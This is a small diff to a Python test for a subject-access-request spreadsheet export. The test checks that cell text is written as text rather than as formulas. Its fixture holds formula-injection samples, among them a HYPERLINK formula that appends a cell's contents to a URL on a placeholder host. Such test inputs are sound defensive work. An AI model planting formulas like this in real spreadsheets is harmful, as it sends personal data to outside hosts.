@@ -68,7 +68,7 @@ def test_a_secret_of_too_little_variety_is_refused(weak: str, tmp_path: Path, mo
 def test_the_subject_access_workbook_writes_text_as_text(tmp_path: Path) -> None:
     rows = pd.DataFrame({
         "dataset": "health/notes", "found_by": "the identifier given", "delivery_sha256": "f", "row": [1, 2, 3],
-        "_source_sha256": "f", "_row": [1, 2, 3], "_nodes": [["nhs:1"]] * 3,
+        "_source_sha256": "f", "_row": [1, 2, 3], "_nodes": [["nhs:1"]] * 3, "_record_key": None,
         "note": ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+SUM(1,2)", "plain"], "n": [1, 2, None],
     })  # fmt: skip
     path = export(Found({"health/notes": rows}), tmp_path / "sar")
